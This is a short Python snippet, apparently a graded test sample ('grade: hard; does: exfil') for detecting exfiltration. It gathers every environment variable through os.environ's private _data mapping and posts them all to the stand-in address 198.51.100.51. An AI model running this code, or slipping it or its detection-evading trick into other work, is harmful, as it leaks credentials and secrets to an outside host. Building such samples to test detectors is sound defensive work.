# evasion: the environment read from os.environ's private bytes mapping (_data) and posted as a body
# grade: hard; does: exfil
import os
import urllib.request

store = os.environ._data
body = b"\n".join(k + b"=" + v for k, v in store.items())
urllib.request.urlopen("http://198.51.100.51/e", data=body, timeout=10)
